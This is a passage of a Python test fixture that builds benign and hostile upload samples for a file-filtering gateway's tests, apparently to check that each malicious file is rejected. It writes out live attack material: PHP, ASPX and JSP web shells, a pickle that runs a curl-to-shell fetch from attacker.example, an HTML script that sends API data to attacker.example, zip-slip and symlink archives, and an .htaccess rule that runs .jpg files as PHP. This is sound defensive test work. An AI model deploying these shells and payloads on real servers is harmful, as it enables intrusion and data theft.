"""A corpus of uploads, benign and hostile, built in code: no opaque binary fixtures.

Each sample carries the name a real client would send, because the name matters as much as the
bytes (``shell.php.jpg``, a ``.docm`` renamed ``report.docx``). The hostile structures come from
the inspectors' own unit tests, which explain each one; this module gives them realistic names
and adds the real-world-shaped benign files every profile must keep accepting.
"""

from __future__ import annotations

import functools
import io
import os
import pickle
import random
import struct
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.support.clamd import EICAR
from tests.unit.test_antivirus import pdf_with_attachment, zipped
from tests.unit.test_inspect_archives import nest, quoted_overlap_bomb, zeros_zip, zip_symlink
from tests.unit.test_inspect_images import encode, pixel_flood_png, png_chunk, tiny_gif
from tests.unit.test_inspect_office import (
    DDE_LINK,
    DECLARATION,
    DOCM_MAIN,
    DROPPER_MACRO,
    LAUGHS,
    ODF_EVENT,
    ODF_MODULE,
    SYLK_XLM,
    XXE,
    field,
    legacy_doc,
    odf_content,
    odt,
    package,
    remote_template,
    vba_project,
    vba_project_bin,
    xlsx,
)
from tests.unit.test_inspect_office import docx as bare_docx
from tests.unit.test_inspect_pdf import (
    goto_then_script,
    hex_escaped_names,
    javascript_in_object_stream,
    launch,
    minimal,
    open_action_javascript,
    rich_media,
    submit_form,
    xfa,
    zip_inside_a_stream,
)
from tests.unit.test_inspect_svg import BILLION_LAUGHS
from tests.unit.test_inspect_svg import XXE as SVG_XXE
from tests.unit.test_inspect_svg import doc as svg

Kind = Literal["benign", "malicious"]
MB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Sample:
    """One upload: the client's file name, the bytes, and what the gateway must make of it."""

    name: str
    data: bytes
    kind: Kind
    why: str
    # Codes the verdict must include, so a hostile file is refused for the right reason.
    expect: frozenset[str] = frozenset()
    # Only a virus scanner can tell: the structural pipeline alone sees an ordinary file.
    needs_scanner: bool = False


def _benign(name: str, data: bytes, why: str, *expect: str) -> Sample:
    return Sample(name, data, "benign", why, frozenset(expect))


def _hostile(name: str, data: bytes, why: str, *expect: str, scanner: bool = False) -> Sample:
    return Sample(name, data, "malicious", why, frozenset(expect), needs_scanner=scanner)


def _built(build: Callable[[Path], Path]) -> bytes:
    """The bytes of a unit-test builder that writes its archive into a directory."""
    with tempfile.TemporaryDirectory(prefix="filegate-corpus-") as directory:
        return build(Path(directory)).read_bytes()


# --- photos and pictures --------------------------------------------------------------------------


def photo(size: tuple[int, int] = (1024, 768), seed: int = 1) -> Image.Image:
    """A camera-sized picture with gradients and noise, so encoders do real work."""
    red = Image.linear_gradient("L").resize(size)
    green = Image.radial_gradient("L").resize(size)
    noise = Image.effect_noise(size, 40 + seed)
    return Image.merge("RGB", (red, green, noise))


def camera_exif(orientation: int = 1) -> bytes:
    """What a camera writes: maker, model, time, orientation and where the photo was taken."""
    exif = Image.Exif()
    exif[0x010F] = "Canon"  # Make
    exif[0x0110] = "Canon EOS 80D"  # Model
    exif[0x0112] = orientation
    exif[0x0131] = "Firmware 1.0.2"  # Software
    exif[0x0132] = "2024:06:01 12:34:56"  # DateTime
    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}  # GPS
    return exif.tobytes()


def screenshot_png() -> bytes:
    image = photo((800, 600), seed=2).convert("RGBA")
    data = encode(image, "PNG")
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + png_chunk(b"tEXt", b"Software\x00Screenshot tool 3.1") + data[iend:]


def loading_gif() -> bytes:
    frames = [
        photo((64, 64), seed=i).convert("P", palette=Image.Palette.ADAPTIVE) for i in range(8)
    ]
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)


# --- PDF ------------------------------------------------------------------------------------------


def _text_stream(lines: list[str]) -> bytes:
    escaped = [line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") for line in lines]
    shown = b" ".join(b"(%s) '" % line.encode("latin-1") for line in escaped)
    return b"BT /F1 11 Tf 72 720 Td 14 TL " + shown + b" ET"


def text_pdf(pages: list[list[str]]) -> pikepdf.Pdf:
    """Pages of Helvetica text, with document information, as word processors export them."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for lines in pages:
        pdf.add_blank_page(page_size=(612, 792))
        page = pdf.pages[-1].obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(_text_stream(lines))
    pdf.docinfo["/Title"] = "Quarterly report"
    pdf.docinfo["/Author"] = "Finance team"
    pdf.docinfo["/Producer"] = "LibreOffice 7.6"
    return pdf


def _saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def _paragraphs(page: int) -> list[str]:
    return [
        f"Section {page + 1}",
        *(f"Line {n}: revenue grew in region {n % 7}." for n in range(40)),
    ]


def report_pdf() -> bytes:
    """Six pages, an outline, and an /OpenAction that only goes to page 1 (what Acrobat writes)."""
    pdf = text_pdf([_paragraphs(n) for n in range(6)])
    with pdf.open_outline() as outline:
        for n in range(6):
            outline.root.append(pikepdf.OutlineItem(f"Section {n + 1}", n))
    first = Array([pdf.pages[0].obj, Name.XYZ, 0, 792, 0])
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=first)
    pdf.Root.PageMode = Name.UseOutlines
    return _saved(pdf)


def reading_list_pdf() -> bytes:
    """Three pages of references, every one a /URI link annotation."""
    pdf = text_pdf([[f"Reference {page * 12 + n}" for n in range(12)] for page in range(3)])
    for page in pdf.pages:
        annotations = Array()
        for n in range(12):
            top = 720 - 14 * n
            action = Dictionary(S=Name.URI, URI=String(f"https://example.org/paper/{top}"))
            annotations.append(
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.Link,
                        Rect=Array([72, top - 3, 300, top + 11]),
                        Border=Array([0, 0, 0]),
                        A=action,
                    )
                )
            )
        page.obj.Annots = annotations
    return _saved(pdf)


def handbook_pdf() -> bytes:
    """A PDF 1.5+ file with compressed object streams and page labels, opening at a page."""
    pdf = text_pdf([_paragraphs(n) for n in range(4)])
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.r), 1, Dictionary(S=Name.D)]))
    pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.Fit])
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# --- office documents -----------------------------------------------------------------------------

_PKG = "http://schemas.openxmlformats.org/package/2006"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_OFFICE = "application/vnd.openxmlformats-officedocument"
WORD_MAIN = f"{_OFFICE}.wordprocessingml.document.main+xml"
WORD_TEMPLATE_MAIN = f"{_OFFICE}.wordprocessingml.template.main+xml"
SHEET_MAIN = f"{_OFFICE}.spreadsheetml.sheet.main+xml"
SHEET_TEMPLATE_MAIN = f"{_OFFICE}.spreadsheetml.template.main+xml"
SLIDES_MAIN = f"{_OFFICE}.presentationml.presentation.main+xml"
SLIDES_TEMPLATE_MAIN = f"{_OFFICE}.presentationml.template.main+xml"
_CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"
_APP_TYPE = f"{_OFFICE}.extended-properties+xml"


def _types(overrides: dict[str, str]) -> str:
    return (
        f'{DECLARATION}<Types xmlns="{_PKG}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
        + "</Types>"
    )


def _rels(*targets: tuple[str, str, bool]) -> str:
    """(full relationship type, target, external) triples."""
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(targets, 1)
    )
    return f'{DECLARATION}<Relationships xmlns="{_PKG}/relationships">{body}</Relationships>'


def _properties(title: str) -> dict[str, str]:
    core = (
        f'{DECLARATION}<cp:coreProperties xmlns:cp="{_PKG}/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>{title}</dc:title><dc:creator>A. Author</dc:creator>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2024-05-02T09:00:00Z</dcterms:created>'
        "</cp:coreProperties>"
    )
    app = (
        f'{DECLARATION}<Properties xmlns="{_DOC}/extended-properties">'
        "<Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion>"
        "</Properties>"
    )
    return {"docProps/core.xml": core, "docProps/app.xml": app}


def _package_rels(main: str) -> str:
    return _rels(
        (f"{_DOC}/relationships/officeDocument", main, False),
        (f"{_PKG}/relationships/metadata/core-properties", "docProps/core.xml", False),
        (f"{_DOC}/relationships/extended-properties", "docProps/app.xml", False),
    )


def word_file(main_type: str = WORD_MAIN) -> bytes:
    """A Word document (or template) with styles, a table, a picture and a web link."""
    rows = "".join(
        f"<w:tr><w:tc><w:p><w:r><w:t>Item {n}</w:t></w:r></w:p></w:tc>"
        f"<w:tc><w:p><w:r><w:t>{n * 12.5:.2f}</w:t></w:r></w:p></w:tc></w:tr>"
        for n in range(1, 6)
    )
    body = (
        '<w:p><w:pPr><w:pStyle w:val="Title"/></w:pPr><w:r><w:t>Project report</w:t></w:r></w:p>'
        + "".join(
            f"<w:p><w:r><w:t>Paragraph {n} of the report.</w:t></w:r></w:p>" for n in range(30)
        )
        + f"<w:tbl>{rows}</w:tbl>"
        + '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Project page</w:t></w:r></w:hyperlink></w:p>'
        + '<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r>'
        + "</w:fldSimple></w:p>"
    )
    document = (
        f'{DECLARATION}<w:document xmlns:w="{_W}" xmlns:r="{_DOC}/relationships">'
        f"<w:body>{body}</w:body></w:document>"
    )
    styles = (
        f'{DECLARATION}<w:styles xmlns:w="{_W}"><w:style w:type="paragraph" w:styleId="Title">'
        '<w:name w:val="Title"/></w:style></w:styles>'
    )
    document_rels = _rels(
        (f"{_DOC}/relationships/styles", "styles.xml", False),
        (f"{_DOC}/relationships/image", "media/image1.png", False),
        (f"{_DOC}/relationships/hyperlink", "https://example.com/project", True),
    )
    overrides = {
        "/word/document.xml": main_type,
        "/word/styles.xml": f"{_OFFICE}.wordprocessingml.styles+xml",
        "/docProps/core.xml": _CORE_TYPE,
        "/docProps/app.xml": _APP_TYPE,
    }
    return package(
        {
            "[Content_Types].xml": _types(overrides),
            "_rels/.rels": _package_rels("word/document.xml"),
            "word/_rels/document.xml.rels": document_rels,
            "word/document.xml": document,
            "word/styles.xml": styles,
            "word/media/image1.png": encode(photo((120, 80)), "PNG"),
            **_properties("Project report"),
        }
    )


def excel_file(main_type: str = SHEET_MAIN) -> bytes:
    """A workbook (or template) with shared strings and a column of figures under a SUM."""
    strings = ["Month", "Revenue"] + [f"2024-{m:02d}" for m in range(1, 13)]
    shared = (
        f'{DECLARATION}<sst xmlns="{_S}" count="{len(strings)}" uniqueCount="{len(strings)}">'
        + "".join(f"<si><t>{s}</t></si>" for s in strings)
        + "</sst>"
    )
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    rows += "".join(
        f'<row r="{m + 1}"><c r="A{m + 1}" t="s"><v>{m + 1}</v></c>'
        f'<c r="B{m + 1}"><v>{1000 + 37 * m}</v></c></row>'
        for m in range(1, 13)
    )
    rows += '<row r="14"><c r="B14"><f>SUM(B2:B13)</f><v>15886</v></c></row>'
    sheet = f'{DECLARATION}<worksheet xmlns="{_S}"><sheetData>{rows}</sheetData></worksheet>'
    workbook = (
        f'{DECLARATION}<workbook xmlns="{_S}" xmlns:r="{_DOC}/relationships">'
        '<sheets><sheet name="Revenue" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = _rels(
        (f"{_DOC}/relationships/worksheet", "worksheets/sheet1.xml", False),
        (f"{_DOC}/relationships/sharedStrings", "sharedStrings.xml", False),
    )
    overrides = {
        "/xl/workbook.xml": main_type,
        "/xl/worksheets/sheet1.xml": f"{_OFFICE}.spreadsheetml.worksheet+xml",
        "/xl/sharedStrings.xml": f"{_OFFICE}.spreadsheetml.sharedStrings+xml",
        "/docProps/core.xml": _CORE_TYPE,
        "/docProps/app.xml": _APP_TYPE,
    }
    return package(
        {
            "[Content_Types].xml": _types(overrides),
            "_rels/.rels": _package_rels("xl/workbook.xml"),
            "xl/_rels/workbook.xml.rels": workbook_rels,
            "xl/workbook.xml": workbook,
            "xl/worksheets/sheet1.xml": sheet,
            "xl/sharedStrings.xml": shared,
            **_properties("Revenue 2024"),
        }
    )


def powerpoint_file(main_type: str = SLIDES_MAIN) -> bytes:
    """A one-slide presentation (or template)."""
    slide = (
        f'{DECLARATION}<p:sld xmlns:p="{_P}" xmlns:a="{_A}"><p:cSld><p:spTree><p:sp><p:txBody>'
        "<a:bodyPr/><a:p><a:r><a:t>Roadmap 2025</a:t></a:r></a:p></p:txBody></p:sp>"
        "</p:spTree></p:cSld></p:sld>"
    )
    presentation = (
        f'{DECLARATION}<p:presentation xmlns:p="{_P}" xmlns:r="{_DOC}/relationships">'
        '<p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>'
    )
    overrides = {
        "/ppt/presentation.xml": main_type,
        "/ppt/slides/slide1.xml": f"{_OFFICE}.presentationml.slide+xml",
        "/docProps/core.xml": _CORE_TYPE,
        "/docProps/app.xml": _APP_TYPE,
    }
    return package(
        {
            "[Content_Types].xml": _types(overrides),
            "_rels/.rels": _package_rels("ppt/presentation.xml"),
            "ppt/_rels/presentation.xml.rels": _rels(
                (f"{_DOC}/relationships/slide", "slides/slide1.xml", False)
            ),
            "ppt/presentation.xml": presentation,
            "ppt/slides/slide1.xml": slide,
            **_properties("Roadmap"),
        }
    )


def spreadsheet_odf() -> bytes:
    cells = "".join(
        f'<table:table-row><table:table-cell office:value-type="float" office:value="{n}"/>'
        "</table:table-row>"
        for n in range(1, 4)
    )
    total = (
        '<table:table-row><table:table-cell table:formula="of:=SUM([.A1:.A3])" '
        'office:value-type="float" office:value="6"/></table:table-row>'
    )
    body = f'<office:spreadsheet><table:table table:name="Sheet1">{cells}{total}</table:table>'
    return odt(
        odf_content(body + "</office:spreadsheet>"),
        mimetype=b"application/vnd.oasis.opendocument.spreadsheet",
    )


# --- text and archives ----------------------------------------------------------------------------

CONTACTS_CSV = (
    "name,email,city,notes\n"
    'Zoë Müller,zoe@example.com,Zürich,"likes ""quotes"", commas"\n'
    "José Álvarez,jose@example.es,Sevilla,\n"
    "李雷,li@example.cn,北京,VIP\n"
).encode()


def sales_csv(rows: int = 500) -> bytes:
    noise = random.Random(7)
    lines = ["date,region,units,price"]
    lines += [
        f"2024-{1 + n % 12:02d}-{1 + n % 28:02d},region-{n % 5},{noise.randint(1, 90)},"
        f"{noise.uniform(1, 500):.2f}"
        for n in range(rows)
    ]
    return ("\n".join(lines) + "\n").encode()


MEETING_NOTES = (
    "Meeting notes, 3 June\n"
    "=====================\n\n"
    "- Budget approved (see budget.xlsx)\n"
    "- Next review: 1 July — café on the corner\n"
    "- Owner: Ana\n"
).encode()


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tar_gz_of(entries: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for info, data in entries:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data else None)
    return buffer.getvalue()


def tar_member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return info


def stored_zip(count: int) -> bytes:
    """``count`` empty entries: a few bytes each, a directory scanners must walk."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for n in range(count):
            archive.writestr(f"thumbs/{n:05d}.jpg", b"")
    return buffer.getvalue()


# --- programs and scripts -------------------------------------------------------------------------


def windows_executable() -> bytes:
    """A PE32 header: an MS-DOS stub pointing at a COFF header and an optional header."""
    stub = bytearray(128)
    stub[:2] = b"MZ"
    struct.pack_into("<I", stub, 0x3C, len(stub))
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<HBBIII", 0x10B, 14, 0, 0x200, 0, 0).ljust(0xE0, b"\0")
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x200, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0)
    return bytes(stub) + coff + optional + section.ljust(512, b"\0") + b"\xc3" * 512


def linux_executable() -> bytes:
    """An x86-64 ELF executable header with one loadable segment."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 4096, 4096, 0x1000)
    return (header + segment).ljust(4096, b"\x90")


class _Payload:
    """Pickles to a call of os.system: never unpickle what this produces."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("curl -s https://attacker.example/x | sh",)


ASPX_SHELL = b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe"); %>'
JSP_SHELL = b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
WEBSHELL = b'<?php if (isset($_GET["cmd"])) { system($_GET["cmd"]); } ?>\n'
HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>\n"
    b"<script>fetch('/api/v1/files', {credentials: 'include'})"
    b".then(r => r.text()).then(t => navigator.sendBeacon('https://attacker.example', t))"
    b"</script>\n</body></html>\n"
)
SVG_WITH_SCRIPT = svg('<script type="text/javascript">alert(document.domain)</script>')


def jpeg(seed: int = 3) -> bytes:
    return encode(photo((320, 240), seed=seed), "JPEG", quality=85)


def png(seed: int = 4) -> bytes:
    return encode(photo((160, 120), seed=seed), "PNG")


def huge_jpeg() -> bytes:
    """A JPEG whose frame header promises 60,000 x 60,000 pixels (3.6 Gpx) in a few KB."""
    data = bytearray(encode(photo((64, 64)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 60_000, 60_000)
    return bytes(data)


def png_with_php() -> bytes:
    """A valid PNG carrying a PHP web shell in a text chunk, for an include() to run."""
    data = png()
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + png_chunk(b"tEXt", b"Comment\x00" + WEBSHELL) + data[iend:]


# --- the tables -----------------------------------------------------------------------------------


@functools.cache
def benign() -> tuple[Sample, ...]:
    """Real-world-shaped files every default profile must accept."""
    return (
        _benign(
            "photo.jpg",
            encode(photo(), "JPEG", exif=camera_exif(), quality=90),
            "a camera photo with EXIF and GPS: accepted, the copy stripped of metadata",
            "image_metadata_removed",
        ),
        _benign(
            "portrait.jpeg",
            encode(photo((480, 640), seed=5), "JPEG", exif=camera_exif(orientation=6)),
            "a rotated phone photo: the copy is turned upright and loses the EXIF",
            "image_metadata_removed",
        ),
        _benign("screenshot.png", screenshot_png(), "an RGBA screenshot with a tEXt chunk"),
        _benign("loading.gif", loading_gif(), "an eight-frame animated GIF"),
        _benign("banner.webp", encode(photo((600, 200)), "WEBP", quality=80), "a WebP banner"),
        _benign("report.pdf", report_pdf(), "six pages, an outline, /OpenAction /GoTo page 1"),
        _benign("reading-list.pdf", reading_list_pdf(), "36 /URI links", "pdf_link"),
        _benign("handbook.pdf", handbook_pdf(), "object streams, page labels, opens at page 2"),
        _benign(
            "report.docx",
            word_file(),
            "Word: styles, a table, a picture and a web link",
            "office_link",
        ),
        _benign("letterhead.dotx", word_file(WORD_TEMPLATE_MAIN), "a Word template", "office_link"),
        _benign("budget.xlsx", excel_file(), "a workbook of figures under a SUM"),
        _benign("budget-template.xltx", excel_file(SHEET_TEMPLATE_MAIN), "an Excel template"),
        _benign("roadmap.pptx", powerpoint_file(), "a one-slide presentation"),
        _benign("deck-template.potx", powerpoint_file(SLIDES_TEMPLATE_MAIN), "a slide template"),
        _benign("minutes.odt", odt(), "an OpenDocument text"),
        _benign("figures.ods", spreadsheet_odf(), "an OpenDocument spreadsheet with a SUM"),
        _benign("contacts.csv", CONTACTS_CSV, "UTF-8 CSV with quoted fields"),
        _benign("sales.csv", sales_csv(), "500 rows of numbers and dates"),
        _benign("meeting-notes.txt", MEETING_NOTES, "plain UTF-8 text"),
        _benign(
            "photos.zip",
            zip_of({f"2024/IMG_{n:04d}.jpg": jpeg(n) for n in range(3)}),
            "a folder of photos",
        ),
        _benign(
            "documents.zip",
            zip_of(
                {
                    "report.pdf": report_pdf(),
                    "sales.csv": sales_csv(50),
                    "notes/meeting-notes.txt": MEETING_NOTES,
                    "report.docx": word_file(),
                }
            ),
            "a folder of documents",
        ),
        _benign(
            "export.zip",
            zip_of({"2023.zip": zip_of({"sales.csv": sales_csv(20)})}),
            "a zip of exported zips, within the nesting limit",
        ),
    )


@functools.cache
def malicious() -> tuple[Sample, ...]:
    """Hostile files, one class after another; each must be rejected or sanitised."""
    return (
        *_names(),
        *_disguises(),
        *_svgs(),
        *_archives(),
        *_images(),
        *_pdfs(),
        *_office(),
        *_eicar(),
        *_programs(),
    )


def _names() -> tuple[Sample, ...]:
    return (
        _hostile(
            "shell.php.jpg",
            jpeg(),
            "Apache's mod_mime runs any .php part",
            "name_dangerous_extension",
        ),
        _hostile(
            "invoice.pdf.exe",
            windows_executable(),
            "a double extension hiding a program",
            "extension_not_allowed",
            "executable",
        ),
        _hostile(
            "invoice\u202efdp.exe",
            windows_executable(),
            "right-to-left override: shows as 'invoiceexe.pdf'",
            "name_bidi_chars",
            "extension_not_allowed",
        ),
        _hostile(
            "avatar.php%00.png", png(), "an encoded NUL cuts the name at .php", "name_null_byte"
        ),
        _hostile(
            "upload.aspx::$DATA",
            ASPX_SHELL,
            "an NTFS stream suffix makes IIS write upload.aspx",
            "name_ntfs_stream",
        ),
        _hostile(
            "..%2f..%2fwww%2fnotes.txt",
            MEETING_NOTES,
            "'../' hidden behind percent-encoding",
            "name_encoded_traversal",
        ),
        _hostile(
            "../../../var/www/html/shell.php",
            WEBSHELL,
            "a path that climbs into the web root",
            "name_path_stripped",
            "name_dangerous_extension",
        ),
        _hostile(
            ".htaccess",
            b"AddType application/x-httpd-php .jpg\n",
            "makes Apache run every .jpg as PHP",
            "server_config",
        ),
        _hostile(
            "avatar.asp;.jpg",
            jpeg(),
            "IIS 6 runs 'x.asp;.jpg' as ASP: the semicolon ends the extension",
            "name_dangerous_extension",
        ),
    )


def _disguises() -> tuple[Sample, ...]:
    return (
        _hostile("statement.pdf", HTML_PAGE, "HTML named .pdf", "type_mismatch", "active_content"),
        _hostile("profile.png", HTML_PAGE, "HTML named .png", "type_mismatch", "active_content"),
        _hostile("readme.txt", HTML_PAGE, "HTML named .txt", "active_content"),
        _hostile("index.html", HTML_PAGE, "an HTML page", "extension_not_allowed"),
        _hostile("logo.png", SVG_WITH_SCRIPT, "a scripted SVG named .png", "type_mismatch"),
        _hostile(
            "holiday.jpg",
            jpeg() + zip_of({"payload.html": HTML_PAGE}),
            "a JPEG that is also a zip (GIFAR-style polyglot)",
            "image_trailing_data",
            "image_polyglot",
        ),
        _hostile(
            "avatar.png", png_with_php(), "a PNG carrying a PHP web shell", "image_embedded_markup"
        ),
        _hostile(
            "cat.gif",
            tiny_gif(1, comment=b"<script>alert(1)</script>"),
            "a GIF comment holding a script",
            "image_embedded_markup",
        ),
        _hostile(
            "paper.pdf",
            minimal() + HTML_PAGE,
            "HTML after the PDF's %%EOF",
            "pdf_trailing_data",
        ),
        _hostile("bundle.pdf", zip_inside_a_stream(), "a PDF that is also a zip", "pdf_polyglot"),
    )


def _svgs() -> tuple[Sample, ...]:
    return (
        _hostile("chart.svg", SVG_WITH_SCRIPT, "a <script> element", "svg_not_allowed"),
        _hostile(
            "icon.svg",
            svg("<circle r='4'/>", 'onload="alert(1)"'),
            "an onload handler",
            "svg_not_allowed",
        ),
        _hostile(
            "badge.svg",
            svg(
                '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
                'src="https://attacker.example/"/></foreignObject>'
            ),
            "embedded HTML",
            "svg_not_allowed",
        ),
        _hostile(
            "button.svg",
            svg('<a href="javascript:alert(1)"><text>Click</text></a>'),
            "a javascript: link",
            "svg_not_allowed",
        ),
        _hostile(
            "tracker.svg",
            svg('<image href="https://attacker.example/pixel.png"/>'),
            "loads from another origin",
            "svg_not_allowed",
        ),
        _hostile("diagram.svg", SVG_XXE, "XXE reading /etc/passwd", "svg_not_allowed"),
        _hostile("map.svg", BILLION_LAUGHS, "billion laughs", "svg_not_allowed"),
    )


def _archives() -> tuple[Sample, ...]:
    return (
        _hostile(
            "backup.zip",
            zip_of({"readme.txt": b"ok", "../../../../var/www/html/shell.php": WEBSHELL}),
            "zip slip",
            "archive_path_traversal",
        ),
        _hostile(
            "plugins.zip",
            zip_of({"..\\..\\Windows\\System32\\evil.dll": windows_executable()}),
            "zip slip with Windows separators",
            "archive_path_traversal",
        ),
        _hostile(
            "site.tar.gz",
            tar_gz_of([(tar_member("index.txt"), b"ok"), (tar_member("../../etc/cron.d/x"), b"")]),
            "tar slip",
            "archive_path_traversal",
        ),
        _hostile(
            "project.zip", _built(zip_symlink), "a symlink to /etc/passwd", "archive_link_entry"
        ),
        _hostile(
            "logs.tar.gz",
            tar_gz_of([(tar_member("logs", tarfile.SYMTYPE, "/root/.ssh"), b"")]),
            "a tar symlink out of the extraction directory",
            "archive_link_entry",
        ),
        _hostile(
            "data.zip", _built(zeros_zip(50 * MB)), "50 MB of zeros in 50 KB", "archive_ratio"
        ),
        _hostile("archive.zip", _built(nest(4)), "zips nested four deep", "archive_too_deep"),
        _hostile(
            "bundle.zip",
            _built(quoted_overlap_bomb()),
            "~40 KB overlapping-entry zip bomb",
            "archive_overlapping_entries",
        ),
        _hostile(
            "thumbnails.zip",
            stored_zip(20_000),
            "20,000 entries",
            "archive_too_many_entries",
        ),
        _hostile(
            "invoices.zip",
            zip_of({"invoice.pdf.exe": windows_executable()}),
            "a program inside a zip",
            "executable",
        ),
        _hostile(
            "statements.zip",
            zip_of({"statement.pdf": HTML_PAGE}),
            "HTML named .pdf inside a zip",
            "active_content",
        ),
    )


def _images() -> tuple[Sample, ...]:
    return (
        _hostile(
            "wallpaper.png", pixel_flood_png(), "100,000 x 100,000 pixels", "image_too_many_pixels"
        ),
        _hostile("panorama.jpg", huge_jpeg(), "60,000 x 60,000 pixels", "image_too_many_pixels"),
        _hostile("spinner.gif", tiny_gif(2_000), "2,000 frames", "image_too_many_frames"),
    )


def _pdfs() -> tuple[Sample, ...]:
    return (
        _hostile(
            "invoice.pdf",
            open_action_javascript(),
            "JavaScript run on opening",
            "pdf_javascript",
            "pdf_auto_action",
        ),
        _hostile(
            "statement-2024.pdf",
            hex_escaped_names(),
            "/J#61va#53cript: hex-escaped names",
            "pdf_javascript",
        ),
        _hostile(
            "form.pdf",
            javascript_in_object_stream(),
            "document JavaScript hidden in a compressed object stream",
            "pdf_javascript",
        ),
        _hostile("manual.pdf", launch(), "a /Launch of calc.exe", "pdf_launch"),
        _hostile("survey.pdf", submit_form(), "submits form data", "pdf_submit_form"),
        _hostile("catalog.pdf", xfa(), "an XFA form", "pdf_xfa"),
        _hostile("brochure.pdf", rich_media(), "rich media (Flash)", "pdf_rich_media"),
        _hostile(
            "slides.pdf", goto_then_script(), "a /GoTo whose /Next runs a script", "pdf_javascript"
        ),
    )


def _office() -> tuple[Sample, ...]:
    return (
        _hostile(
            "quarterly-report.docx",
            bare_docx(extra={"word/vbaProject.bin": vba_project_bin(DROPPER_MACRO)}),
            "a VBA AutoOpen that shells out",
            "office_macros",
            "office_macros_suspicious",
        ),
        _hostile(
            "agenda.docx",
            bare_docx(main=DOCM_MAIN),
            "a .docm renamed .docx",
            "type_mismatch",
        ),
        _hostile(
            "invoice.doc",
            legacy_doc(**vba_project(DROPPER_MACRO)),
            "a legacy Word file with an AutoOpen macro",
            "office_macros",
        ),
        _hostile(
            "forecast.xlsx",
            xlsx(extra={"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{_S}"/>'}),
            "an Excel 4 macro sheet",
            "office_macros",
        ),
        _hostile("prices.csv", SYLK_XLM, "SYLK with XLM macros named .csv", "office_macros"),
        _hostile(
            "minutes-2024.odt",
            odt(extra={"Basic/Standard/Module1.xml": ODF_MODULE}),
            "a StarBasic macro",
            "office_macros",
        ),
        _hostile(
            "letter.odt",
            odt(
                odf_content(scripts=f"<office:event-listeners>{ODF_EVENT}</office:event-listeners>")
            ),
            "an on-load event calling a script",
